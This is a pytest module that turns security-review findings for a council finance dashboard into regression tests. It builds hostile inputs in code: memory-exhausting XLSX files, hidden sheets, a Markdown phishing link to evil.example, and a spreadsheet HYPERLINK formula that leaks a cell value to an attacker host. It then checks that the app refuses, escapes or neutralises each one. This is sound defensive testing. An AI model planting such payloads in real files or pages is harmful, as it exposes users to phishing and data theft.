"""Each finding of the hostile review, as a test that failed before the fix.

The hostile files are built here, in a few lines each; none is committed.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import tempfile
import tomllib
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import load_workbook
from streamlit import config as st_config
from streamlit.testing.v1 import AppTest

from data import load
from data.access import Actor, PermissionDenied
from data.actions import record_update
from data.db import DatabaseBusy, connect, failure_cause
from exports.committee import ReportMeta, xlsx_bytes
from metrics import actions
from metrics.report import committee_report, report_summary
from tests.support.helpers import NOT_RUNNABLE_AS_NOBODY, PROJECT_DIR, project_runs_as
from tests.support.load_files import MONITORING_HEADER, csv_bytes, hand_made_xlsx, sheet_xml
from ui import loading
from ui.identity import token_matches
from ui.safe import WORD_JOINER, plain, plain_label

ADMIN = Actor("finance.bp@dorsetcouncil.example", "admin")
EDITOR = Actor("jane.doe@dorsetcouncil.example", "editor")
VIEWER = Actor("viewer@dorsetcouncil.example", "viewer")
ROW = ["2021/22", "P1", "Place", "Highways", "PL-1", "1000", "1100.50", "1050"]
PEAK_MEMORY_LIMIT_MB = 300
SHOWN_TYPES = ("title", "markdown", "caption", "error", "warning", "info", "text", "code", "exception", "metric")


def cli_run(*args: str, env: dict[str, str] | None = None, user: int | None = None) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "data", *args]
    if user is not None:
        command = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", *command]
    return subprocess.run(command, cwd=PROJECT_DIR, env=env, capture_output=True, text=True, timeout=600)


def everything_shown(at: AppTest) -> str:
    texts = []
    for element_type in SHOWN_TYPES:
        for element in at.get(element_type):
            texts.append(str(getattr(element, "value", "")) + str(getattr(element, "label", "")))
    return "\n".join(texts)


# --- 1: an XLSX is read by the cells it holds; the role comes before the file -----------------------


def declared_wide_workbook(rows: int) -> bytes:
    """The review's 56 KB workbook: the monitoring header, `rows` one-cell rows, declared A1:XFD1048576."""
    cells = [MONITORING_HEADER, *([ROW[0]] for _ in range(rows))]
    return hand_made_xlsx(
        [("monitoring", "visible", "xl/worksheets/sheet1.xml", sheet_xml(cells, dimension="A1:XFD1048576"))]
    )


def one_long_row_workbook(cells: int) -> bytes:
    """A row of millions of cells: about 90 MB of XML, under 200 KB compressed."""
    header = [MONITORING_HEADER]
    xml = sheet_xml(header, extra='<row r="2">' + "<c><v>1</v></c>" * cells + "</row>")
    return hand_made_xlsx([("monitoring", "visible", "xl/worksheets/sheet1.xml", xml)])


def peak_mb_of_dry_run(workbook: Path, db: Path) -> tuple[float, int, str]:
    """Peak memory (MB), exit status and stderr of `python -m data load FILE --dry-run`.

    ru_maxrss of RUSAGE_CHILDREN is the largest child ever waited for, so a fresh parent process
    measures this one command alone.
    """
    measure = (
        "import resource, subprocess, sys; done = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); print(done.returncode); "
        "sys.stderr.write(done.stderr)"
    )
    command = [sys.executable, "-m", "data", "load", str(workbook), "--dry-run", "--db", str(db)]
    measured = subprocess.run(
        [sys.executable, "-c", measure, *command], cwd=PROJECT_DIR, capture_output=True, text=True, timeout=600
    )
    peak_kib, returncode = (int(line) for line in measured.stdout.split())
    return peak_kib / 1024, returncode, measured.stderr


def test_cli_dry_run_of_a_declared_wide_workbook_stays_small(db_path, tmp_path):
    wide = tmp_path / "wide.xlsx"
    wide.write_bytes(declared_wide_workbook(10_000))
    peak_mb, returncode, stderr = peak_mb_of_dry_run(wide, db_path)
    print(f"peak memory of the dry run ({wide.stat().st_size / 1024:.0f} KB workbook): {peak_mb:.0f} MB")
    assert peak_mb <= PEAK_MEMORY_LIMIT_MB
    assert returncode == 1  # refused for its one-cell rows, with rows and columns named, no traceback
    assert "wide.xlsx, sheet 'monitoring', row 2, column period (B)" in stderr
    assert "Traceback" not in stderr


def test_cli_dry_run_of_one_row_of_millions_of_cells_stays_small(db_path, tmp_path):
    long_row = tmp_path / "long_row.xlsx"
    long_row.write_bytes(one_long_row_workbook(6_000_000))
    peak_mb, returncode, stderr = peak_mb_of_dry_run(long_row, db_path)
    print(f"peak memory of the dry run ({long_row.stat().st_size / 1024:.0f} KB workbook): {peak_mb:.0f} MB")
    assert peak_mb <= PEAK_MEMORY_LIMIT_MB
    assert returncode == 1
    assert "long_row.xlsx, sheet 'monitoring', row 2, column BM: a value beyond column BL" in stderr


def test_a_row_is_as_long_as_its_cells_not_the_declared_width():
    raw, problems = load.parse("wide.xlsx", declared_wide_workbook(3))
    assert problems == []
    assert [len(cells) for _, cells in raw.rows] == [1, 1, 1]


def test_a_value_far_beyond_the_columns_is_named_not_kept():
    far = '<row r="3"><c r="XFD3" t="inlineStr"><is><t>stray</t></is></c></row>'
    workbook = hand_made_xlsx(
        [("monitoring", "visible", "xl/worksheets/sheet1.xml", sheet_xml([MONITORING_HEADER, ROW], extra=far))]
    )
    _, problems = load.parse("far.xlsx", workbook)
    assert [(p.row, p.column) for p in problems] == [(3, "XFD")]


def test_a_viewers_upload_is_refused_before_the_file_is_parsed(db_path, monkeypatch):
    def must_not_parse(*args, **kwargs):
        raise AssertionError("the file was parsed before the role was checked")

    monkeypatch.setattr(load, "read", must_not_parse)
    monkeypatch.setattr(load, "parse", must_not_parse)
    with connect(db_path) as conn:
        for actor in (VIEWER, EDITOR):
            with pytest.raises(PermissionDenied):
                loading.check_upload(conn, actor, "wide.xlsx", declared_wide_workbook(10), None)


def test_a_viewer_sees_no_uploader_on_the_data_page(db_path, monkeypatch):
    import ui.identity

    monkeypatch.setattr(ui.identity, "current_actor", lambda: VIEWER)
    at = AppTest.from_file(str(PROJECT_DIR / "app.py"), default_timeout=60).run()
    at.switch_page("pages/data_sources.py").run()
    assert not at.exception
    assert not at.get("file_uploader")
    assert any("need the admin role" in info.value for info in at.info)


# --- 2: one visible sheet, from the workbook's own list --------------------------------------------


def two_sheet_workbook(first_state: str) -> bytes:
    hidden_rows = [MONITORING_HEADER, [*ROW[:5], 9_999_999, 0, 0]]
    visible_rows = [MONITORING_HEADER, [*ROW[:5], 90, 0, 0]]
    return hand_made_xlsx(
        [
            ("Secret", first_state, "xl/worksheets/sheet1.xml", sheet_xml(hidden_rows)),
            ("monitoring", "visible", "xl/elsewhere/data.xml", sheet_xml(visible_rows)),  # outside xl/worksheets
        ]
    )


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_sheet_is_refused_by_name(db_path, state):
    with connect(db_path) as conn, pytest.raises(load.LoadRejected) as refused:
        load.read("hidden.xlsx", two_sheet_workbook(state), load.directorate_aliases(conn))
    [problem] = refused.value.problems
    assert "hidden sheets ('Secret')" in problem.message


def test_the_one_sheet_is_found_from_the_workbook_wherever_it_is_stored(db_path):
    visible_rows = [MONITORING_HEADER, [*ROW[:5], 90, 0, 0]]
    workbook = hand_made_xlsx([("monitoring", "visible", "xl/elsewhere/data.xml", sheet_xml(visible_rows))])
    with connect(db_path) as conn:
        parsed = load.read("one.xlsx", workbook, load.directorate_aliases(conn))
    assert list(parsed.frame["annual_budget_gbp"]) == ["90.00"]


def test_two_visible_sheets_are_refused_with_their_names(db_path):
    with connect(db_path) as conn, pytest.raises(load.LoadRejected, match="'Secret', 'monitoring'"):
        load.read("two.xlsx", two_sheet_workbook("visible"), load.directorate_aliases(conn))


# --- 3: Markdown in data is shown as written ------------------------------------------------------

HOSTILE_LABEL = "**Usable** :red[reserves] $x^2$ :material/warning:"
HOSTILE_QUOTE = "As [in the council report][r] :material/warning:\n\n[r]: https://evil.example/phish"


def test_plain_breaks_icons_reference_links_directives_and_maths():
    escaped = plain(HOSTILE_LABEL + " " + HOSTILE_QUOTE)
    assert ":material/" not in escaped  # Streamlit turns that into an icon before it parses Markdown
    assert "\\[r\\]\\:" in escaped and "\\:red\\[" in escaped and "\\$x^2\\$" not in escaped
    assert "https:" not in escaped.replace("\\", "")  # no bare link either
    assert re.sub(r"\\(.)", r"\1", escaped).replace(WORD_JOINER, "") == HOSTILE_LABEL + " " + HOSTILE_QUOTE


@pytest.mark.parametrize(
    "text", ["[in the council report][r]", "[in the council report][]", "[r]: https://evil.example/phish"]
)
def test_the_loader_refuses_reference_links_and_link_definitions(db_path, text):
    header = ["measure", "label", "fiscal_year", "period", "value", "unit", "basis", "source_document",
              "source_section", "source_quote"]  # fmt: skip
    row = ["usable_reserves", "Usable reserves", "2021/22", "outturn", "90", "gbp_m", "reported", "Report", "S1",
           f"The council holds £90m. {text}"]  # fmt: skip
    with connect(db_path) as conn, pytest.raises(load.LoadRejected, match="Markdown link"):
        load.read("f.csv", csv_bytes([row], header), load.directorate_aliases(conn))


def put_hostile_reserves_text(db_path: Path) -> None:
    with duckdb.connect(str(db_path)) as conn:
        conn.execute(
            "UPDATE reported_figures SET label = $label, source_quote = $quote WHERE measure = 'usable_reserves'",
            {"label": HOSTILE_LABEL, "quote": HOSTILE_QUOTE},
        )


def test_the_reserves_page_escapes_the_label_and_the_quote(app_test, db_path):
    put_hostile_reserves_text(db_path)
    app_test.run()
    at = app_test.switch_page("pages/reserves.py").run()
    assert not at.exception
    labels = [metric.label for metric in at.metric]
    assert plain_label(HOSTILE_LABEL + " (no date given)") in labels
    [info] = [i.value for i in at.info if "no date in the source document" in i.value]
    assert plain(HOSTILE_QUOTE) in info


# --- 4: no live formula from a table's own download -----------------------------------------------


def test_the_tables_own_export_is_off_and_streamlit_reads_the_setting():
    settings = tomllib.loads((PROJECT_DIR / ".streamlit" / "config.toml").read_text())
    assert settings["client"]["disableDataExport"] is True
    assert st_config.get_option("client.disableDataExport") is True  # read from the project's config file


def test_the_history_download_neutralises_a_formula_note(app_test, db_path):
    note = '=HYPERLINK("http://evil.example/?leak="&A1,"Evidence")'
    with duckdb.connect(str(db_path)) as conn:
        record_update(
            conn, EDITOR, 9, status="in_progress", percent_complete=10, revised_due_date=None, note=note,
            evidence_url=None,
        )  # fmt: skip
    app_test.run()
    app_test.query_params["rec"] = "9"
    at = app_test.switch_page("pages/action_plan.py").run()
    assert not at.exception
    [button] = [b for b in at.get("download_button") if b.proto.label == "Download history (CSV)"]
    assert not button.proto.disabled
    from metrics.safe_text import neutralise_frame

    assert neutralise_frame(pd.DataFrame({"Note": [note]}))["Note"][0] == "'" + note


# --- 5: control characters --------------------------------------------------------------------------


def test_a_soft_return_in_a_note_is_stored_as_a_line_break(db_path):
    with duckdb.connect(str(db_path)) as conn:
        update_id = record_update(
            conn, EDITOR, 9, status="in_progress", percent_complete=10, revised_due_date=None,
            note="First line\x0bsecond line\x07", evidence_url=None,
        )  # fmt: skip
        stored = conn.execute("SELECT note FROM action_updates WHERE update_id = $id", {"id": update_id}).fetchone()
    assert stored == ("First line\nsecond line",)


def test_the_committee_xlsx_is_made_when_a_stored_note_holds_control_characters(db_path):
    with duckdb.connect(str(db_path)) as conn:
        conn.execute(
            "INSERT INTO action_updates (rec_no, status, percent_complete, note, updated_by, updated_at) "
            "VALUES (9, 'in_progress', 10, $note, 'old import', $at)",
            {"note": "Before\x0bafter\x1b[31m", "at": datetime(2022, 1, 5)},
        )
        report = committee_report(conn, as_at=date(2022, 2, 1), previous=actions.REPORT_DATE)
    meta = ReportMeta(
        title="t", as_at=date(2022, 2, 1), previous=actions.REPORT_DATE, source="s", rules=actions.RAG_RULES,
        summary=report_summary(report), generated_by="pytest", generated_at=datetime(2022, 2, 1),
    )  # fmt: skip
    workbook = load_workbook(__import__("io").BytesIO(xlsx_bytes(report, meta)))
    notes = [cell.value for cell in workbook["Progress"]["A"]]
    assert notes  # the workbook was made
    values = [cell.value for row in workbook["Progress"].iter_rows() for cell in row]
    assert "Before\nafter[31m" in values


@pytest.mark.page_errors_expected("Chromium could not print")
def test_a_pdf_that_cannot_be_made_says_so_and_one_that_can_is_offered(app_test, monkeypatch):
    import exports.committee

    def chromium_fails(report, meta):
        raise exports.committee.ReportUnavailable("Chromium could not print: /tmp/secret-folder/report.html")

    monkeypatch.setattr(exports.committee, "pdf_available", lambda: True)
    monkeypatch.setattr(exports.committee, "pdf_bytes", chromium_fails)
    app_test.run()
    at = app_test.switch_page("pages/action_plan.py").run()
    at.button(key="make_report_pdf").click().run()
    assert not at.exception
    [message] = [e.value for e in at.error if "The PDF could not be made" in e.value]
    assert re.search(r"Quote reference [0-9a-f]{8}", message) and "secret-folder" not in message
    monkeypatch.setattr(exports.committee, "pdf_bytes", lambda report, meta: b"%PDF-1.7 made")
    at.button(key="make_report_pdf").click().run()
    assert not at.exception
    assert [b.proto.label for b in at.get("download_button") if b.proto.label.endswith("(PDF)")] == [
        "Download report (PDF)"
    ]


# --- 6: write failures say what stopped them ---------------------------------------------------------


@pytest.fixture
def read_only_folder(built_db) -> Iterator[tuple[Path, int]]:
    """A database whose folder the writer may not write to: the .wal file cannot be created.

    As root, permissions do not stop a write, so the writer runs as `nobody` with the file its own and
    the folder root's; as anyone else the folder is made read-only.
    """
    folder = Path(tempfile.mkdtemp(prefix="read-only-db-"))
    path = folder / "finance.duckdb"
    shutil.copyfile(built_db, path)
    if os.getuid() == 0:
        if not shutil.which("setpriv"):
            pytest.skip("setpriv is needed to write as another user")
        if not project_runs_as(65534):
            pytest.skip(f"writes as nobody, but {NOT_RUNNABLE_AS_NOBODY}")
        os.chown(path, 65534, 65534)
        os.chmod(folder, 0o755)
        user = 65534
    else:
        os.chmod(folder, 0o555)
        user = None
    try:
        yield path, user
    finally:
        os.chmod(folder, 0o755)
        shutil.rmtree(folder, ignore_errors=True)


def test_the_cli_names_a_read_only_folder_without_a_traceback(read_only_folder, tmp_path):
    path, user = read_only_folder
    source = Path(tempfile.mkdtemp(prefix="load-file-")) / "m.csv"
    source.write_bytes(csv_bytes([ROW]))
    os.chmod(source.parent, 0o755)
    os.chmod(source, 0o644)
    env = {**os.environ, "HOME": str(source.parent)}
    done = cli_run("load", str(source), "--db", str(path), env=env, user=user)
    shutil.rmtree(source.parent)
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert "cannot rollback" not in done.stderr
    assert "read-only" in done.stderr and "Nothing was written" in done.stderr


def test_record_update_on_a_read_only_folder_does_not_blame_other_writers(read_only_folder):
    path, user = read_only_folder
    script = (
        "import sys, duckdb\n"
        "from data.access import Actor\nfrom data.actions import record_update\nfrom data.db import failure_cause\n"
        "conn = duckdb.connect(sys.argv[1])\n"
        "try:\n"
        "    record_update(conn, Actor('e@x.org', 'editor'), 9, status='in_progress', percent_complete=10,\n"
        "                  revised_due_date=None, note=None, evidence_url=None)\n"
        "except Exception as error:\n"
        "    print(type(error).__name__, '|', failure_cause(error), '|', error)\n"
    )
    command = [sys.executable, "-c", script, str(path)]
    if user is not None:
        command = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups", *command]
    done = subprocess.run(command, cwd=PROJECT_DIR, capture_output=True, text=True, timeout=120)
    assert "other people were writing" not in done.stdout
    assert "WriteConflict" not in done.stdout
    assert "read-only" in done.stdout, done.stdout + done.stderr


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (DatabaseBusy("The database is in use by another process; tried for 30 s."), "busy"),
        (duckdb.IOException('Could not write file "/x/f.duckdb.wal": No space left on device'), "disk"),
        (duckdb.TransactionException('Failed to commit: Cannot open file "/x.wal": Permission denied'), "read-only"),
        (OSError(30, "Read-only file system"), "read-only"),
    ],
)
def test_failure_causes_are_in_words_a_user_can_act_on(error, words):
    cause = failure_cause(error)
    assert words in cause
    assert "/x" not in cause


@pytest.mark.page_errors_expected("DatabaseBusy")
def test_a_failed_load_callback_shows_its_cause_and_a_reference(app_test, monkeypatch, caplog):
    def busy(*args, **kwargs):
        raise DatabaseBusy("The database is in use by another process; tried for 30 s.")

    monkeypatch.setattr(load, "apply", busy)
    app_test.run()
    at = app_test.switch_page("pages/data_sources.py").run()
    at.file_uploader[0].set_value(("ledger.csv", csv_bytes([ROW]), "text/csv")).run()
    next(b for b in at.button if b.label.startswith("Load ")).click().run()
    assert not at.exception
    [message] = [e.value for e in at.error if "Nothing was loaded." in e.value]
    assert "busy" in message and re.search(r"Quote reference [0-9a-f]{8}", message)


@pytest.mark.page_errors_expected("boom: /srv/secret/path")
def test_an_unexpected_error_in_a_write_callback_keeps_the_page(app_test, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("boom: /srv/secret/path")

    monkeypatch.setattr(load, "apply", broken)
    app_test.run()
    at = app_test.switch_page("pages/data_sources.py").run()
    at.file_uploader[0].set_value(("ledger.csv", csv_bytes([ROW]), "text/csv")).run()
    next(b for b in at.button if b.label.startswith("Load ")).click().run()
    assert not at.exception
    assert any("Nothing was loaded." in e.value and "Quote reference" in e.value for e in at.error)
    assert "/srv/secret" not in everything_shown(at)
    assert any("Load history" in h.value for h in at.header)  # the rest of the page is still there


# --- 7: amounts of any length ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("long.csv", csv_bytes([[*ROW[:5], "1" * 27, "0", "0"]])),
        ("huge.xlsx", hand_made_xlsx(
            [("m", "visible", "xl/worksheets/sheet1.xml", sheet_xml([MONITORING_HEADER, [*ROW[:5], 1e30, 0, 0]]))]
        )),
    ],
)  # fmt: skip
def test_an_amount_of_any_length_gets_a_row_and_column_message(db_path, tmp_path, name, content):
    file = tmp_path / name
    file.write_bytes(content)
    done = cli_run("load", str(file), "--db", str(db_path), "--dry-run")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    where = rf"{re.escape(name)}, (sheet 'm', )?row 2, column annual_budget_gbp \(F\)"
    assert re.search(where + ": .*under £1,000,000,000,000", done.stderr), done.stderr


# --- 8: a cost centre that moves directorate ---------------------------------------------------------


def test_a_cost_centre_moving_directorate_is_previewed_and_loaded_once(db_path):
    def load_file(name: str, rows: list[list[str]]):
        with connect(db_path) as conn:
            parsed = load.read(name, csv_bytes(rows), load.directorate_aliases(conn))
            summary = load.preview(conn, parsed)
            return summary, load.apply(conn, parsed, ADMIN)

    load_file("a.csv", [ROW])  # PL-1 under Place
    moved = [ROW[0], ROW[1], "Corporate Development", "Finance", "PL-1", "10", "11", "12"]
    summary, result = load_file("b.csv", [moved])
    changes = summary.changes.set_index("directorate")
    corporate = changes.loc["Corporate Development"]
    assert (corporate["lines_in_file"], corporate["lines_added"], corporate["lines_replaced"]) == (1, 0, 1)
    assert changes.loc["Place", "lines_moved_to_another_directorate"] == 1
    assert any("1 cost centre moves to another directorate" in note for note in summary.notes)
    assert result.lines_replaced == 1
    with connect(db_path) as conn:
        held = conn.execute(
            "SELECT directorate FROM monitoring WHERE cost_centre = 'PL-1' AND basis = 'reported'"
        ).fetchall()
    assert held == [("Corporate Development",)]  # counted once, in its new directorate


# --- 9: search takes any text ------------------------------------------------------------------------


@pytest.mark.parametrize("words", ["³", "9" * 5000, "٣", "½"])
def test_the_action_plan_search_takes_any_text(db_path, words):
    with connect(db_path) as conn:
        rows = actions.tracker(conn, as_at=date(2022, 1, 1), filters=actions.TrackerFilters(search=words))
    assert rows.empty


def test_a_recommendation_number_still_finds_that_recommendation(db_path):
    with connect(db_path) as conn:
        rows = actions.tracker(conn, as_at=date(2022, 1, 1), filters=actions.TrackerFilters(search=" 12 "))
    assert list(rows["rec_no"]) == [12]


# --- 10: no internal paths in the browser -------------------------------------------------------------


def test_a_missing_database_is_reported_without_its_path(tmp_path, monkeypatch):
    missing = tmp_path / "nowhere" / "f.duckdb"
    monkeypatch.setenv("FINANCE_DB", str(missing))
    at = AppTest.from_file(str(PROJECT_DIR / "app.py"), default_timeout=60).run()
    shown = everything_shown(at)
    assert "has not been built yet" in shown
    assert str(tmp_path) not in shown and "nowhere" not in shown


def test_a_broken_secrets_file_is_reported_without_its_path(db_path, tmp_path):
    broken = tmp_path / "private-folder" / "secrets.toml"
    broken.parent.mkdir()
    broken.write_text('[auth\nclient_id = "x"\n')
    original = st_config.get_option("secrets.files")
    st_config.set_option("secrets.files", [str(broken)])
    try:
        at = AppTest.from_file(str(PROJECT_DIR / "app.py"), default_timeout=60).run()
    finally:
        st_config.set_option("secrets.files", original)
    shown = everything_shown(at)
    assert "secrets file" in shown and "Quote reference" in shown
    assert "private-folder" not in shown and str(tmp_path) not in shown


# --- 11: local mode needs the token ------------------------------------------------------------------


def test_only_the_exact_token_matches():
    token = "k3Y-abcdefghijklmnopqrstuvwx"
    assert token_matches(token, token)
    for wrong in (None, "", token[:-1], token + "x", token.upper()):
        assert not token_matches(wrong, token)
